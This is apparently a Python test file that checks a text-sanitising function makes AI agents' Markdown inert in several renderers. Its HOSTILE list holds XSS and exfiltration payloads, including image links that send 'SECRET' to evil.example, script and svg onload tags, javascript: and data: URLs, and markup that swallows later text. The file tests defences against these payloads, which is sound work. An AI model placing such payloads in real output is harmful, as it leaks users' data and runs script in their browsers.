"""Text of agents in Markdown for people: two real renderers find nothing in it that loads, links, hides or runs."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from markdown import markdown
from markdown_it import MarkdownIt

from claw_files.core import text as words

PLAIN = {"p", "ul", "ol", "li", "em", "strong", "code", "pre", "br", "hr", "blockquote"} | {
    f"h{n}" for n in range(1, 7)
}
PLAIN |= {"table", "thead", "tbody", "tr", "th", "td", "s", "del"}
AFTER = "the-end-is-seen"


class Seen(HTMLParser):
    """What a browser would make of it."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.active: list[str] = []
        self.text = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        bad = [name for name, _ in attrs if name not in ("start", "style", "class")]
        if tag not in PLAIN or bad:
            self.active.append(f"<{tag} {attrs}>")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        if not re.fullmatch(r" key: k-1 ", data):  # ours
            self.active.append(f"<!--{data}-->")

    def handle_decl(self, decl: str) -> None:
        self.active.append(decl)

    def handle_pi(self, data: str) -> None:
        self.active.append(data)

    unknown_decl = handle_decl


RENDERERS = {
    "commonmark": MarkdownIt("commonmark", {"html": True}).render,
    "github": MarkdownIt("gfm-like", {"html": True, "linkify": False}).render,
    "python-markdown": lambda text: markdown(text, extensions=["tables"]),
}


def in_files(text: str) -> list[str]:
    """The ways in which it stands in files for people: an entry of one line, one of several, a message of its own."""
    flat = words.inert(words.safe(text, 2_000)).strip()
    block = words.inert(words.safe(text, 4_000, lines=True)).strip().replace("\n", "\n  ")
    entries = [f"- 10:00, peter: {it} <!-- key: k-1 -->\n- 10:05, sam: {AFTER}\n" for it in (flat, block)]
    return [*entries, f"{words.inert(text)}\n\n{AFTER}\n"]


HOSTILE = [
    "![](http://evil.example/?d=SECRET)",
    "![x][r]\n\n[r]: http://evil.example/?d=SECRET",
    "![r]\n\n[r]: http://evil.example/x.png",
    "![x](<http://evil.example/a b>)",
    "!\\[x](http://evil.example/)",
    "\\![x](http://evil.example/)",
    "\\\\![x](http://evil.example/)",
    "[![x](http://evil.example/i.png)](http://evil.example/)",
    "<img src=http://evil.example/ onerror=alert(1)>",
    "\\<img src=http://evil.example/>",
    "\\\\<img src=http://evil.example/>",
    "<IMG\nSRC=http://evil.example/>",
    "<<img src=x>",
    "<plaintext>",
    "<style>*{display:none}</style>",
    "<style>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    "<iframe src=http://evil.example/>",
    "<base href=http://evil.example/>",
    "<meta http-equiv=refresh content=0>",
    "<form action=http://evil.example/><input>",
    "<!-- swallowed",
    "<!--> <!---> --> x",
    "<!DOCTYPE x [",
    "<![CDATA[ swallowed",
    "<?php swallowed",
    "</p></li></ul><b>",
    "<a href=javascript:alert(1)>x</a>",
    "[x](javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](JaVaScRiPt:alert(1) 'title')",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x]( http://evil.example/ )",
    "[x]\\(http://evil.example/)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "[y]\n\n[y]:\njavascript:alert(1)",
    "[x][]\n\n[x]: data:text/html,x",
    "[a\n](javascript:x)",
    "<javascript:alert(1)>",
    "<http://evil.example/>",
    "<a@evil.example>",
    "```\n<img src=x>",
    "~~~~\nswallowed",
    "    <img src=x>\n\ttext",
    "`<img src=x>",
    "` ![x](http://evil.example/) `` <b>",
    "> <img src=x>\n> ![x](y)",
    "- <style>\n  - <!--",
    "# <script>\n\n<script>",
    "| a | b |\n|---|---|\n| <img src=x> | ![](y) |",
    "%% swallowed",
    "x\n===\n<div onclick=x>",
    "&lt;img src=x&gt; &#60;img src=x&#62;",
    "!\u200b[x](http://evil.example/)",
    "<\u200bimg src=x>",
    "<\x00img src=x>",
    "<!- -> <!-\n- x -- >",
    "[x]:x\n[x] :y",
    "![[http://evil.example/x.png]]",
]
PIECES = st.sampled_from(
    [*"<>![]()`~%\\:-\n \"'&;#=/?", "<!--", "-->", "![", "](", "]:", "][", "<img src=x>", "javascript:", "<style>",
     "http://evil.example/", "x", "```", "&lt;", "&#60;", "\\\\", "<?", "<!", "</", "data:", "\n\n", "    ", "- "]
)  # fmt: skip


def check(text: str) -> None:
    for name, render in RENDERERS.items():
        for shown in in_files(text):
            seen = Seen(render(shown))
            assert seen.active == [], (name, shown)
            assert AFTER in seen.text, (name, shown)


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_hostile_is_live_in_what_people_read(text: str) -> None:
    check(text)


@given(st.lists(PIECES, max_size=40).map("".join))
@example("[](<")
def test_no_random_combination_of_markup_is_live(text: str) -> None:
    check(text)


@given(st.one_of(st.text(max_size=200), st.lists(PIECES, max_size=40).map("".join)))
def test_inert_text_stays_unchanged(text: str) -> None:
    once = words.inert(text)

    assert words.inert(once) == once
    assert [*re.sub(r"[`~' ]", "", once)] == [*re.sub(r"[`~' ]", "", text)], "nothing but fences and spaces changes"


@pytest.mark.parametrize(
    "text",
    [
        "a < b and c > d, 3<4, x <- y, -> z",
        "Done: 2 findings, see PR #142 and https://board.example/x?a=1&b=2.",
        "*stress*, **more**, `code`, [ ] open, [x] done, 50 % of it",
        "Größe 検査 🙂 \\ `a` ``b``",
    ],
)
def test_ordinary_words_stay_as_they_are(text: str) -> None:
    assert words.inert(text) == text


def test_a_megabyte_of_openings_takes_no_time() -> None:
    for piece in ("<", "![", "](", "`", "%", "-", "<a "):
        assert words.inert(piece * 300_000)
